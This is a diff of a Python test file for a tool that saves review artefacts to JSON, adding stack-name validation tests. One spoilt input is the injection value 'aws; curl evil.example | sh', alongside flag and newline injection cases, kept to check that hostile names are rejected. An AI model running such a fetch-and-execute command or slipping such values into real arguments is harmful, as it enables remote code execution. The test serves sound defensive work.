@@ -7,30 +7,32 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from hypothesis import HealthCheck, given, settings
-from hypothesis import strategies as st
 
-from delivery.comment import render
-from delivery.comment.body import LIMIT
-from delivery.comment.records import Action, Change, Policies, Review, StackPreview, Step, Violation
+from delivery.comment.records import Action, Change, Review
 from delivery.forge import artefact
-from delivery.forge.errors import ReviewRefused
+from delivery.forge.errors import FileUnwritable, ReviewRefused
 from tests.unit.delivery.reviews import ONE, REVIEWS, preview, review, step
 
 Spoil = Callable[[dict[str, Any]], object]
 
 
+def _named(told: Review) -> Review:
+    """A review whose stacks have names that the engine would take."""
+    hostile = [one for one in told.previews if not one.stack.isalnum()]
+    return replace(told, previews=tuple(replace(one, stack="aws") for one in hostile)) if hostile else told
+
+
 def _bare(told: Review) -> Review:
     """A review without what a file never holds: addresses and what the posting side says."""
-    previews = tuple(replace(one, log=None) for one in told.previews)
+    previews = tuple(replace(one, log=None) for one in _named(told).previews)
     return replace(told, previews=previews, artefact=None, stale=None)
 
 
 @pytest.mark.parametrize("name", REVIEWS)
 def test_a_review_comes_back_as_it_was(name: str, tmp_path: Path) -> None:
-    artefact.write(REVIEWS[name], tmp_path / "review.json")
+    artefact.write(_named(REVIEWS[name]), tmp_path / "new" / "review.json")
 
-    assert artefact.read(tmp_path / "review.json") == _bare(REVIEWS[name])
+    assert artefact.read(tmp_path / "new" / "review.json") == _bare(REVIEWS[name])
 
 
 def test_a_file_holds_no_address(tmp_path: Path) -> None:
@@ -53,7 +55,10 @@ SPOILT: dict[str, Spoil] = {
     "no stack": lambda told: told.update(previews=[]),
     "stacks": lambda told: told.update(previews=told["previews"] * 21),
     "nameless stack": lambda told: _stack(told).update(stack=""),
-    "long name": lambda told: _stack(told).update(stack="x" * 2001),
+    "long name": lambda told: _stack(told).update(stack="x" * 101),
+    "command": lambda told: _stack(told).update(stack="aws; curl evil.example | sh"),
+    "flag": lambda told: _stack(told).update(stack="--yes"),
+    "second line": lambda told: _stack(told).update(stack="aws\n"),
     "action": lambda told: _stack(told)["steps"][0].update(action="explode"),
     "level": lambda told: _stack(told)["policies"].update(
         violations=[{"policy": "p", "level": "maybe", "resource": "", "message": ""}]
@@ -139,38 +144,15 @@ def test_more_stacks_than_a_file_holds_are_told_of(tmp_path: Path) -> None:
         artefact.write(told, tmp_path / "review.json")
 
 
-_text = st.text(max_size=8) | st.sampled_from(["`" * 300, "x" * 2_000, "\u202e" * 400, "|\n" * 500])
-_step = st.builds(
-    Step,
-    st.sampled_from(list(Action)),
-    _text,
-    _text,
-    st.lists(st.builds(Change, _text, _text, _text, st.booleans()), max_size=2).map(tuple),
-    st.booleans(),
-)
-_stack_preview = st.builds(
-    StackPreview,
-    _text.filter(bool),
-    st.tuples(st.lists(_step, max_size=4), st.sampled_from([1, 30, 900])).map(
-        lambda drawn: tuple(replace(one, name=f"{one.name}{n}") for n in range(drawn[1]) for one in drawn[0])
-    ),
-    st.builds(
-        Policies,
-        st.integers(0, 60),
-        st.lists(
-            st.builds(Violation, _text, st.sampled_from(["mandatory", "advisory"]), _text, _text), max_size=40
-        ).map(tuple),
-    ),
-    error=st.none() | _text,
-)
+@pytest.mark.parametrize("stack", ["prod", "aws-prod_2.eu", "acme/heart/prod"])
+def test_names_that_the_engine_takes_are_taken(stack: str, tmp_path: Path) -> None:
+    artefact.write(review(preview(stack=stack)), tmp_path / "review.json")
+
+    assert artefact.read(tmp_path / "review.json").previews[0].stack == stack
 
 
-@settings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck))
-@given(stacks=st.lists(_stack_preview, min_size=1, max_size=3), times=st.sampled_from([1, 6]))
-def test_no_review_that_a_file_can_hold_makes_a_comment_too_long(
-    stacks: list[StackPreview], times: int
-) -> None:
-    told = review(*(stacks * times))
+def test_where_nothing_can_be_written_is_told_of(tmp_path: Path) -> None:
+    (tmp_path / "file").write_text("in the way")
 
-    assert len(render(told)) <= LIMIT
-    assert len(render(told, LIMIT // 4)) <= LIMIT // 4
+    with pytest.raises(FileUnwritable, match=r"file/review\.json cannot be written: .* Name another file"):
+        artefact.write(ONE, tmp_path / "file" / "review.json")
